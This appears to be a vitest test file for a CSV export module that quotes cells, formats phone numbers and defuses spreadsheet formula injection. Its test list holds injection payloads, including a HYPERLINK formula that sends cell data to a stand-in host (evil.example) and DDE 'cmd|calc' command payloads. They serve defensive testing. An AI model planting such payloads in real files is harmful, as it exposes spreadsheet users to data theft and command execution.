import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, phoneCell, toCsv } from './csv';

/**
 * The organisers open these files in Excel or LibreOffice. Every cell must come back as the text
 * that was stored (read with a real CSV parser), and no cell may start a formula: OWASP's CSV
 * injection guidance (=, +, -, @, tab, CR, LF first; separators and quotes that could start a new
 * cell inside a value).
 */
const parseCsv = (text: string, delimiter = ',') =>
  parse(text, { delimiter, relax_column_count: false, skip_empty_lines: false }) as string[][];

const FORMULA_START = /^[=+\-@\t\r\n]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ';=1+1',
  ',=1+1',
  'Ada;=1+1',
  'Ada,=1+1',
  'Ada";=1+1',
  'Ada"\t=1+1',
  '  =1+1',
  '"=1+1"',
  "'=1+1",
  'plain, with "quotes" and\r\nlines',
];

describe('csvCell', () => {
  it('quotes every cell (RFC 4180), so separators and quotes inside a value never start a new cell', () => {
    for (const value of hostile) {
      const cell = csvCell(value);
      expect(cell.startsWith('"') && cell.endsWith('"'), JSON.stringify(value)).toBe(true);
      for (const delimiter of [',', ';', '\t']) {
        const rows = parseCsv(`${cell}${delimiter}next\r\n`, delimiter);
        expect(rows, `${JSON.stringify(value)} split on ${JSON.stringify(delimiter)}`).toHaveLength(1);
        expect(rows[0], JSON.stringify(value)).toHaveLength(2);
        expect(rows[0]![1]).toBe('next');
      }
    }
  });

  it('no parsed cell starts a formula, even after leading spaces; the text is otherwise kept', () => {
    for (const value of hostile) {
      const [[parsed]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
      expect(parsed.trimStart(), JSON.stringify(value)).not.toMatch(FORMULA_START);
      // A leading apostrophe is the only change.
      expect([value, `'${value}`], JSON.stringify(value)).toContain(parsed);
    }
  });

  it('keeps valid phone numbers readable: +234… is not prefixed', () => {
    for (const phone of ['+234 801 234 5678', '+2348011122233', '0803 123 4567', '+234 (803) 123-4567']) {
      expect(parseCsv(`${csvCell(phone)}\r\n`)[0]![0]).toBe(phone);
    }
    // Something that only starts like a phone is not one.
    expect(parseCsv(`${csvCell('+234+cmd|calc')}\r\n`)[0]![0]).toBe("'+234+cmd|calc");
    expect(parseCsv(`${csvCell('-1-1-1-1-1-1')}\r\n`)[0]![0]).toBe("'-1-1-1-1-1-1");
  });

  it('phone columns: digits-only numbers (which spreadsheets read as numbers) are grouped with spaces, same digits', () => {
    expect(phoneCell('+2348011122233')).toBe('+234 801 112 2233');
    expect(phoneCell('08031234567')).toBe('0803 123 4567');
    expect(phoneCell('+234-801-234-5678')).toBe('+234 801 234 5678');
    expect(phoneCell('+12025550123')).toBe('+1 202 555 0123');
    expect(phoneCell('(0803)1234567')).toBe('0803 123 4567');
    // Written with spaces already: as typed.
    expect(phoneCell('+234 (803) 123-4567')).toBe('+234 (803) 123-4567');
    expect(phoneCell('0803 123 4567')).toBe('0803 123 4567');
    // Not a phone: left alone (and csvCell then defuses it).
    expect(phoneCell('=1+1')).toBe('=1+1');
    for (const phone of ['+2348011122233', '08031234567', '+234-801-234-5678', '+44(20)79460000']) {
      const shown = phoneCell(phone);
      expect(shown.replace(/\D/g, ''), phone).toBe(phone.replace(/\D/g, ''));
      expect(shown, phone).toMatch(/\s/);
      expect(shown.startsWith('+'), phone).toBe(phone.startsWith('+'));
    }
  });

  it('numbers and empty values', () => {
    expect(parseCsv(`${[csvCell(3), csvCell(null), csvCell(undefined), csvCell(-2)].join(',')}\r\n`)[0]).toEqual(['3', '', '', '-2']);
  });
});

describe('toCsv', () => {
  it('round-trips through a real CSV parser', () => {
    const rows = [
      ['1', 'Ada', '+234 801 234 5678', '=1+1', 'multi\nline, "quoted"'],
      ['2', '\tTabbed', '0803 123 4567', 'Ada;=1+1', ''],
    ];
    const parsed = parseCsv(toCsv(['id', 'name', 'phone', 'note', 'text'], rows));
    expect(parsed).toEqual([
      ['id', 'name', 'phone', 'note', 'text'],
      ['1', 'Ada', '+234 801 234 5678', "'=1+1", 'multi\nline, "quoted"'],
      ['2', "'\tTabbed", '0803 123 4567', 'Ada;=1+1', ''],
    ]);
  });
});

describe('csv', () => {
  it('quotes every cell, doubles quotes, and defuses formulas (more above)', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const f of ['=SUM(A1)', '+1', '-1', '@cmd', '\tx']) expect(csvCell(f)).toBe(`"'${f}"`);
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('+234 801 234 5678')).toBe('"+234 801 234 5678"');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(null)).toBe('""');
    expect(toCsv(['a', 'b'], [[1, 'x']])).toBe('"a","b"\r\n"1","x"\r\n');
  });
});
